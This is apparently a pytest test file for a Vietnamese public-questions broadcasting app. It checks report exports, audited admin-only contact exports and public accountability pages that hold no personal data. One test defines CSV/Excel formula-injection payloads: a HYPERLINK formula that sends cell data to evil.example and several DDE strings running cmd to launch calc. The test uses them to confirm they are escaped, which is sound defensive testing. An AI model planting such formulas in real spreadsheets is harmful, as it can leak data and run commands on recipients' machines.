"""The report's pages and files: every number of the known-figures episode, Vietnamese intact,
formulas neutralised, no personal data except in an admin's audited export."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from docx import Document
from litestar import Litestar
from litestar.testing import AsyncTestClient
from openpyxl import load_workbook
from sqlalchemy import select

from qa_app.events import RecordingPublisher
from qa_app.models import AuditEvent, EpisodeStatus
from qa_app.services import intake, report_exports
from qa_app.services.engines import ModerationEngines
from qa_app.settings import Settings
from tests.after import scenario as sc
from tests.conftest import login, post_form

SUMMARY_VALUES = [11, 8, 1, 2, 2, 3, 4, 1, 1, 2, "25 %", 5, "2,20", "80 %", 5, 1, 1, 1, 1, 1, 1, 1, 1]
PAYLOAD = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây để xem câu trả lời của sở")'


@pytest.fixture
async def known(db: Any, settings: Settings) -> sc.Scenario:
    return await sc.build(db, settings.secret_key)


def personal_data() -> list[str]:
    digits = re.sub(r"\D", "", sc.PHONE_IN_TEXT)
    return [*sc.NAMES, *sc.CONTACTS, sc.PHONE_IN_TEXT, digits, "0903 123 456", "lan.nguyen", "@example.vn"]


def assert_no_personal_data(text: str, where: str) -> None:
    for value in personal_data():
        assert value not in text, f"{value!r} found in {where}"


async def export(client: AsyncTestClient[Litestar], fmt: str, **extra: str) -> Any:
    return await post_form(client, f"/reports/{sc.SLUG}/export", {"format": fmt, **extra})


async def test_csv_has_bom_every_question_and_no_personal_data(
    client: AsyncTestClient[Litestar], known: sc.Scenario
) -> None:
    await login(client, "moderator")
    response = await export(client, "csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert_no_personal_data(text, "the CSV export")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Mã câu hỏi", "Câu hỏi", "Trạng thái"]
    assert len(body) == sc.EXPECTED["questions"]
    column = {name: index for index, name in enumerate(header)}
    assert sum(int(r[column["Số người hỏi"]]) for r in body) == sc.EXPECTED["submissions"]
    deadline = [r[column["Đúng hạn/trễ hạn"]] for r in body]
    assert deadline.count("Đúng hạn") == 1 and deadline.count("Trễ hạn") == 1
    assert deadline.count("Quá hạn, chưa trả lời") == 2
    assert sum(int(r[column["Số đánh giá"]]) for r in body) == sc.EXPECTED["ratings"]
    assert sum(int(r[column["Số cam kết"]]) for r in body) == sc.EXPECTED["commitments"]["made"]
    statuses = [r[column["Trạng thái"]] for r in body]
    assert statuses.count("Đã trả lời trên sóng") == 2 and statuses.count("Đã trả lời bằng văn bản") == 2
    assert any("Lê Văn Sỹ" in r[column["Câu hỏi"]] for r in body)  # Vietnamese intact


async def test_xlsx_holds_every_figure_in_vietnamese(client: AsyncTestClient[Litestar], known: sc.Scenario) -> None:
    await login(client, "producer")
    response = await export(client, "xlsx")
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames[:3] == ["Tổng hợp", "Theo đơn vị", "Theo kênh"]
    summary = [row for row in book["Tổng hợp"].iter_rows(min_row=2, values_only=True)]
    assert [value for _label, value in summary] == SUMMARY_VALUES
    assert summary[0][0] == "Số ý kiến nhận được"
    departments = {row[0]: row for row in book["Theo đơn vị"].iter_rows(min_row=2, values_only=True)}
    xd, yt = departments["Sở Xây dựng Thành phố Hồ Chí Minh"], departments["Sở Y tế Thành phố Hồ Chí Minh"]
    assert xd[1:10] == (3, 1, 1, 1, 1, 2, "50 %", 1, 2)
    assert yt[1:10] == (3, 1, 1, 1, 0, 2, "0 %", 1, 3)
    channels = {row[0]: row[1:] for row in book["Theo kênh"].iter_rows(min_row=2, values_only=True)}
    assert channels == {
        "Biểu mẫu trên web": (6, 5),
        "Điện thoại": (2, 2),
        "Thư điện tử": (1, 1),
        "Thư bưu chính": (1, 1),
        "Fanpage": (1, 1),
    }
    arrivals = list(book["Lượt gửi theo thời gian"].iter_rows(min_row=2, values_only=True))
    assert arrivals[0] == ("Trước đó", 3) and arrivals[-1] == ("Sau đó", 1)
    assert [tuple(r) for r in arrivals[1:-1]] == sc.EXPECTED_ARRIVALS
    commitments = list(book["Cam kết"].iter_rows(min_row=2, values_only=True))
    assert len(commitments) == 5
    verdicts = [sum(r[6 + i] for r in commitments) for i in range(3)]
    assert verdicts == [1, 1, 1]  # yes, partly, not yet
    assert len(list(book["Câu hỏi"].iter_rows(min_row=2))) == 8
    assert "Người hỏi" not in book.sheetnames
    everything = " ".join(
        str(cell) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row if cell
    )
    assert_no_personal_data(everything, "the XLSX export")


async def test_docx_report_reads_back_with_the_figures(client: AsyncTestClient[Litestar], known: sc.Scenario) -> None:
    await login(client, "moderator")
    response = await export(client, "docx")
    assert response.status_code == 200, response.text
    document = Document(io.BytesIO(response.content))
    paragraphs = "\n".join(p.text for p in document.paragraphs)
    assert "Báo cáo kỳ phát sóng: Kỳ tháng 4: Ngập nước và y tế cơ sở" in paragraphs
    assert "68,1 giờ" in paragraphs
    summary = document.tables[0]
    values = [row.cells[1].text for row in summary.rows[1:]]
    assert values == [str(v) for v in SUMMARY_VALUES]
    cells = " ".join(cell.text for table in document.tables for row in table.rows for cell in row.cells)
    assert "Sở Xây dựng" in cells and "Nạo vét toàn bộ tuyến cống hẻm" in cells
    assert_no_personal_data(paragraphs + cells, "the DOCX report")


async def test_formula_injection_is_neutralised_in_csv_and_xlsx(
    client: AsyncTestClient[Litestar], known: sc.Scenario, db: Any
) -> None:
    episode = known.episode
    episode.status = EpisodeStatus.OPEN
    await db.commit()
    payloads = [
        PAYLOAD,
        "+cmd|' /C calc'!A0 xin hỏi về thủ tục cấp phép",
        "@SUM(1+1)*cmd|' /C calc'!A0 xin hỏi về học phí",
        "-2+3+cmd|' /C calc'!A0 xin hỏi về giờ làm việc",
    ]
    for index, payload in enumerate(payloads):
        await intake.submit(
            db,
            ModerationEngines(),
            RecordingPublisher(),
            episode,
            intake.SubmissionForm(text=payload, idempotency_key=f"evil-{index}"),
        )
    await login(client, "admin")
    text = (await export(client, "csv")).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    evil = [c for c in cells if "cmd|" in c or "HYPERLINK" in c]
    assert len(evil) == 4
    assert all(c.startswith("'") for c in evil), evil
    book = load_workbook(io.BytesIO((await export(client, "xlsx")).content))
    xlsx_cells = [cell for row in book["Câu hỏi"].iter_rows(min_row=2) for cell in row]
    evil_cells = [c for c in xlsx_cells if isinstance(c.value, str) and ("cmd|" in c.value or "HYPERLINK" in c.value)]
    assert len(evil_cells) == 4
    assert all(c.data_type == "s" and c.value.startswith("'") for c in evil_cells)
    assert report_exports.neutralise("\tx") == "'\tx" and report_exports.neutralise("\rx") == "'\rx"
    assert report_exports.neutralise("Xin hỏi") == "Xin hỏi" and report_exports.neutralise(12) == 12


async def test_contacts_only_in_an_admins_export_and_audited(
    client: AsyncTestClient[Litestar], known: sc.Scenario, db: Any
) -> None:
    await login(client, "moderator")
    refused = await export(client, "csv", contacts="1")
    assert refused.status_code == 403
    client.cookies.clear()
    await login(client, "admin")
    response = await export(client, "xlsx", contacts="1")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    askers = list(book["Người hỏi"].iter_rows(min_row=2, values_only=True))
    assert len(askers) == sc.EXPECTED["submissions"]
    assert {row[3] for row in askers if row[3]} == set(sc.CONTACTS)
    csv_text = (await export(client, "csv", contacts="1")).content.decode("utf-8-sig")
    assert "lan.nguyen@example.vn" in csv_text and "Nguyễn Thị Lan" in csv_text
    events = list(await db.scalars(select(AuditEvent).where(AuditEvent.action == "report.export_contacts")))
    assert [(e.actor_label, e.after["format"], e.after["rows"]) for e in events] == [
        ("admin", "xlsx", 11),
        ("admin", "csv", 11),
    ]
    assert all("lan.nguyen" not in str(e.after) for e in events)
    assert (await export(client, "docx", contacts="1")).status_code == 422


async def test_report_page_shows_the_figures_and_prints(client: AsyncTestClient[Litestar], known: sc.Scenario) -> None:
    await login(client, "moderator")
    response = await client.get(f"/reports/{sc.SLUG}")
    assert response.status_code == 200
    page = response.text
    for name, value in (("questions", 8), ("answered_on_air", 2), ("answered_in_writing", 2), ("pending", 3)):
        assert f'data-figure="{name}">{value}<' in page
    assert 'data-figure="on_time_rate">25 %<' in page
    assert 'data-figure="satisfied_rate">80 %<' in page
    assert "68,1 giờ" in page
    summary = page.split('class="striped summary-table"', 1)[1].split("</table>", 1)[0]
    assert re.findall(r"<td>([^<]*)</td>", summary) == [str(v) for v in SUMMARY_VALUES]
    arrivals = page.split('class="striped compact arrivals"', 1)[1].split("</table>", 1)[0]
    assert re.findall(r"<td>(\d+)</td>", arrivals) == ["3", *(str(n) for _t, n in sc.EXPECTED_ARRIVALS), "1"]
    assert page.count("<svg") >= 5 and "<script" not in page.split("<main", 1)[1]
    assert "@media print" in (await client.get("/static/css/app.css")).text
    assert (await client.get("/reports")).status_code == 200


async def test_public_accountability_pages_hold_the_figures_and_no_personal_data(
    client: AsyncTestClient[Litestar], known: sc.Scenario
) -> None:
    response = await client.get(f"/giai-trinh/{sc.SLUG}")
    assert response.status_code == 200
    page = response.text
    assert_no_personal_data(page, "the accountability page")
    figures = dict(re.findall(r'data-figure="(\w+)">([^<]*)<', page))
    assert figures == {
        "questions": "8",
        "answered_on_air": "2",
        "answered_in_writing": "2",
        "pending": "3",
        "on_time_rate": "25 %",
        "commitments_done": "1",
        "satisfied_rate": "80 %",
    }
    assert "1 trên 4 câu trả lời bằng văn bản đến hạn" in page
    assert "trên 5 cam kết; 1 quá hạn" in page
    assert "<script" not in page.split("<main", 1)[1] and page.count("<svg") >= 5
    rows = re.findall(r'<tr data-department="([\w-]+)">(.*?)</tr>', page, re.S)
    cells = {code: re.findall(r"<td[^>]*>([^<]*)</td>", row) for code, row in rows}
    assert cells == {
        "so-xay-dung": ["3", "2", "1", "50 %", "1/2", "2", "2,00"],
        "so-y-te": ["3", "2", "1", "0 %", "0/3", "1", "2,50"],
    }
    department = await client.get(f"/giai-trinh/{sc.SLUG}/so-y-te")
    assert department.status_code == 200
    dep = dict(re.findall(r'data-figure="(\w+)">([^<]*)<', department.text))
    assert dep["questions"] == "3" and dep["on_time_rate"] == "0 %" and dep["satisfied_rate"] == "100 %"
    assert department.text.count('class="commitment-card') == 3
    assert_no_personal_data(department.text, "the department's accountability page")
    assert (await client.get(f"/giai-trinh/{sc.SLUG}/cong-an-tp")).status_code == 404
    assert (await client.get("/giai-trinh/khong-co")).status_code == 404
